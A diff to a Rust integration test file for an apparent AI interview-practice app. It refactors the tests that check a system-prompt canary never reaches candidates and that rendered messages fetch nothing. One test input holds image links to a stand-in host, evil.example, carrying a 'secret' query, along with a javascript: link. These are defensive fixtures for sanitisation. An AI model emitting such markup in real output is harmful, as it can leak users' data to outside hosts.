@@ -1,3 +1,4 @@
+use crate::interviews::{connect, read_some, send};
 use crate::support::{json, Backend, TestApp, ADMIN_EMAIL, PASSWORD};
 use rehearse_testkit::both_backends;
 
@@ -151,12 +152,7 @@ async fn the_system_prompt_canary_never_reaches_a_client(backend: Backend) {
     let admin = app.admin().await;
     let candidate = app.signed_up("cara@example.com").await;
     let id = crate::interviews::start(&candidate).await;
-    let sent = candidate
-        .server_fn(
-            "send_message",
-            &[("id", &id), ("text", "Ready."), ("key", "k1")],
-        )
-        .await;
+    let sent = send(&candidate, &id, "Ready.", "k1").await;
     assert_eq!(sent.status(), 200);
     let detail = crate::interviews::wait_for(&candidate, &id, |d| {
         d["messages"].as_array().map(Vec::len) == Some(3)
@@ -184,23 +180,8 @@ async fn the_system_prompt_canary_never_reaches_a_client(backend: Backend) {
         .text()
         .await
         .unwrap_or_default();
-    let stream = candidate
-        .http
-        .get(app.url(&format!("/interviews/{id}/events")))
-        .send()
-        .await
-        .expect("events");
-    let mut body = stream.bytes_stream();
-    let mut events = String::new();
     // The replay of stored messages comes at once; read until the last one.
-    while let Ok(Some(Ok(chunk))) = tokio::time::timeout(
-        std::time::Duration::from_millis(500),
-        futures::StreamExt::next(&mut body),
-    )
-    .await
-    {
-        events.push_str(&String::from_utf8_lossy(&chunk));
-    }
+    let events = read_some(connect(&candidate, &id).await).await;
     assert!(events.contains("event: message"), "{events}");
     for (what, text) in [
         ("page", page),
@@ -212,21 +193,7 @@ async fn the_system_prompt_canary_never_reaches_a_client(backend: Backend) {
             "the canary reached the candidate's {what}"
         );
     }
-    let staff = app.signed_up("rex@example.com").await;
-    let users = json(admin.server_fn("list_users", &[]).await).await;
-    let rex = users
-        .as_array()
-        .and_then(|u| u.iter().find(|u| u["email"] == "rex@example.com"))
-        .and_then(|u| u["id"].as_str())
-        .expect("rex")
-        .to_owned();
-    assert_eq!(
-        admin
-            .server_fn("change_role", &[("user_id", &rex), ("role", "reviewer")])
-            .await
-            .status(),
-        200
-    );
+    let staff = crate::review::reviewer(&app, &admin, "rex@example.com").await;
     for client in [&candidate, &staff] {
         for (name, args) in [
             ("trace_detail", vec![("id", trace_id.as_str())]),
@@ -284,12 +251,7 @@ async fn rendered_messages_fetch_nothing_and_links_are_marked(backend: Backend) 
     let text =
         "Ready. ![x](https://evil.example/p.png?secret=1) <img src=https://evil.example/i.png> \
                 [docs](https://docs.rs) [bad](javascript:alert(1))";
-    let sent = candidate
-        .server_fn(
-            "send_message",
-            &[("id", &id), ("text", text), ("key", "k1")],
-        )
-        .await;
+    let sent = send(&candidate, &id, text, "k1").await;
     assert_eq!(sent.status(), 200);
     let detail = json(
         candidate
